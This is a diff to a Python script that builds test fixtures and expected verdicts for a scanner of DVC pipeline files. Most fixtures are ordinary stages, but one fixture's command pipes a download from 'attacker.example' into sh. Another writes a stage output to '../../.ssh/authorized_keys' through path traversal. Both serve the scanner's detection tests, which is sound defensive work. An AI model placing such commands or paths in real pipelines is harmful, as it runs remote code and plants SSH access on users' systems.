@@ -13,6 +13,20 @@ written with PyYAML's safe dumper in the key order DVC uses.
 - not-dvc.dvc: `.dvc`-named text without outs: plain text (clean).
 - no-path.dvc: an outs entry whose path is null: DVC refuses it (invalid).
 
+Pipeline files (`dvc stage add` / `dvc repro` write them; the shapes follow DVC's dvc.yaml and
+dvc.lock documentation), each in a folder of its own since DVC reads them by name:
+
+- pipeline/dvc.yaml: a prepare and a train stage (cmd, deps, params, outs, a `cache: false` metrics
+  file): the outputs dvc pull fetches are reported as not scanned, the commands dvc repro runs as
+  evidence (suspicious).
+- pipeline/dvc.lock: the lock `dvc repro` writes for it (schema 2.0, outs with md5/size/hash).
+- lock-v1/dvc.lock: a schema 1 lock (stages at the top level): suspicious.
+- foreach/dvc.yaml: a foreach stage whose outs and cmd sit under `do`: suspicious.
+- risky-cmd/dvc.yaml: a stage whose cmd pipes a download into sh (medium: suspicious).
+- traversal/dvc.yaml: a stage output `../../.ssh/authorized_keys` (malicious).
+- metrics-only/dvc.yaml: top-level metrics and plots, no stages: nothing fetched or run (clean).
+- bad-stages/dvc.yaml: `stages` is a list: DVC refuses it (invalid).
+
 Run from the repository root with /usr/bin/python3.
 """
 import json
@@ -63,6 +77,43 @@ put("import.dvc", {"md5": "e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6", "frozen": True,
     "suspicious", rules=["dvc/external-artifact"], evidence={"repo": "https://github.com/example/models"})
 put("not-dvc.dvc", "notes about the dvc remote\n", "clean", absent=["dvc/external-artifact"])
 put("no-path.dvc", {"outs": [{"md5": MD5, "size": 1, "path": None}]}, "invalid", rules=["dvc/malformed"])
+
+# Pipeline files
+put("pipeline/dvc.yaml", {"stages": {
+    "prepare": {"cmd": "python src/prepare.py data/data.xml", "deps": ["data/data.xml", "src/prepare.py"],
+                "params": ["prepare.seed", "prepare.split"], "outs": ["data/prepared"]},
+    "train": {"cmd": "python src/train.py data/prepared model.pkl", "deps": ["data/prepared", "src/train.py"],
+              "params": ["train.n_est"], "outs": ["model.pkl"],
+              "metrics": [{"metrics.json": {"cache": False}}]}}},
+    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"],
+    absent=["dvc/path-traversal", "dvc/malformed"], evidence={"path": "model.pkl", "stage": "train"})
+put("pipeline/dvc.lock", {"schema": "2.0", "stages": {
+    "prepare": {"cmd": "python src/prepare.py data/data.xml",
+                "deps": [{"path": "data/data.xml", "hash": "md5", "md5": "22a1a2931c8370d3aeedd7183606fd7f",
+                          "size": 14445097}],
+                "outs": [{"path": "data/prepared", "hash": "md5", "md5": "153aad06d376b6595932470e459ef42a.dir",
+                          "size": 8437363, "nfiles": 2}]},
+    "train": {"cmd": "python src/train.py data/prepared model.pkl",
+              "deps": [{"path": "data/prepared", "hash": "md5", "md5": "153aad06d376b6595932470e459ef42a.dir",
+                        "size": 8437363, "nfiles": 2}],
+              "outs": [{"path": "model.pkl", "hash": "md5", "md5": MD5, "size": 2211}]}}},
+    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], absent=["dvc/path-traversal"],
+    evidence={"path": "model.pkl", "hash": MD5, "stage": "train"})
+put("lock-v1/dvc.lock", {"train": {"cmd": "python train.py", "deps": [{"path": "train.py", "md5": MD5}],
+                                   "outs": [{"path": "model.pkl", "md5": MD5}]}},
+    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], evidence={"path": "model.pkl"})
+put("foreach/dvc.yaml", {"stages": {"build": {
+    "foreach": ["us", "uk"], "do": {"cmd": "python train.py ${item}", "outs": ["model-${item}.pkl"]}}}},
+    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], evidence={"path": "model-${item}.pkl"})
+put("risky-cmd/dvc.yaml", {"stages": {"setup": {
+    "cmd": "curl -fsSL https://attacker.example/setup.sh | sh", "outs": ["model.pkl"]}}},
+    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"])
+put("traversal/dvc.yaml", {"stages": {"train": {"cmd": "python train.py",
+                                                 "outs": ["../../.ssh/authorized_keys"]}}},
+    "malicious", rules=["dvc/path-traversal"])
+put("metrics-only/dvc.yaml", {"metrics": ["metrics.json"], "plots": ["plots.csv"]}, "clean",
+    absent=["dvc/external-artifact", "dvc/malformed"])
+put("bad-stages/dvc.yaml", {"stages": [{"cmd": "python train.py"}]}, "invalid", rules=["dvc/malformed"])
 
 with open(os.path.join(OUT, "expected.json"), "w") as f:
     json.dump(expected, f, indent=1)
